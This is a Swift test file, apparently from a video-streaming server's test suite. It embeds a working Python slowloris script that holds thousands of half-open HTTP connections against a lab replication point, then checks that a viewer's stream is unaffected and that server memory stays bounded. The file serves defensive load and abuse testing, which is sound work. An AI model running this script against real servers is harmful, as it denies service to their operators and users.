import Foundation
import Lab
import Testing

extension MetroSuite {
    /// Opens as many connections as told and says a byte a second on each, beginning with half a request; connections that
    /// the other end closes are opened anew. Prints how many were answered 429.
    private static let slowloris = """
        import errno, resource, select, socket, sys, time
        host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
        resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
        refused, opened, held, end = 0, 0, [], time.time() + seconds
        while time.time() < end:
            while len(held) < count and time.time() < end:
                s = socket.socket()
                s.settimeout(2)
                try:
                    s.connect((host, port))
                    s.send(b"GET /live/acme/news/180p.ts HTTP/1.1\\r\\nHost: ")
                except OSError:
                    break
                s.setblocking(False)
                held.append(s)
                opened += 1
            kept = []
            for s in held:
                try:
                    refused += s.recv(64).startswith(b"HTTP/1.1 429")
                    s.close()
                except BlockingIOError:
                    kept.append(s)
                except OSError:
                    s.close()
            held = kept
            for s in held:
                try: s.send(b"x")
                except OSError: pass
            time.sleep(0.2)
        print(opened, refused)
        """

    private static func residentKilobytes(of child: ChildProcess) throws -> Int {
        let status = try String(contentsOfFile: "/proc/\(child.identifier)/status", encoding: .utf8)
        let line = try #require(status.split(separator: "\n").first { $0.hasPrefix("VmRSS:") })
        return try #require(Int(line.filter(\.isNumber)))
    }

    @Test func `thousands of connections that never ask delay no viewer and hold no memory`() throws {
        try Self.withDeployment("hostile", plan: Self.unicast) { deployment in
            let list =
                "http://\(MetroTopology.serverAddress):8080/live/\(MetroDeployment.channel)/master.m3u8?token="
                + (try Self.token(of: "bob", in: deployment))
            let alice = try Self.watch("alice", in: deployment, seconds: 25)
            let led = try Self.fetch(list, as: "bob", in: deployment)
            let media = try #require(
                led.split(separator: "\n").map(String.init).first { $0.contains("/180p/index.m3u8?grant=") })
            let stream = media.replacingOccurrences(of: "/180p/index.m3u8", with: "/180p.ts")
            let daemon = try #require(deployment.running["rp1/mrpd"])
            let before = try Self.residentKilobytes(of: daemon)

            let address = try #require(URL(string: MetroDeployment.replicationPointBase(1)))
            let attack = try deployment.metro.viewer("mallory").start(
                "slowloris",
                [
                    "timeout", "40", "python3", "-c", Self.slowloris, address.host ?? "", "\(address.port ?? 0)",
                    "10000",
                    "12",
                ])
            usleep(2_000_000)
            #expect(try Self.complaints(of: stream, as: "bob", in: deployment) == "")
            #expect(try Self.complaints(of: list, as: "bob", in: deployment) == "")
            #expect(attack.waitForExit(within: .seconds(30)))
            let counts = attack.log.split(separator: " ").compactMap { Int($0.filter(\.isNumber)) }
            #expect(counts.count == 2 && counts[0] > 2_000 && counts[1] > 1_000, "\(attack.log)")
            let growth = try Self.residentKilobytes(of: daemon) - before
            #expect(growth < 100 << 10, "\(growth) KiB more")
            #expect(alice.child.waitForExit(within: .seconds(40)))
            #expect(try Self.report(deployment, of: "alice")["lost"] as? Int == 0)
        }
    }
}
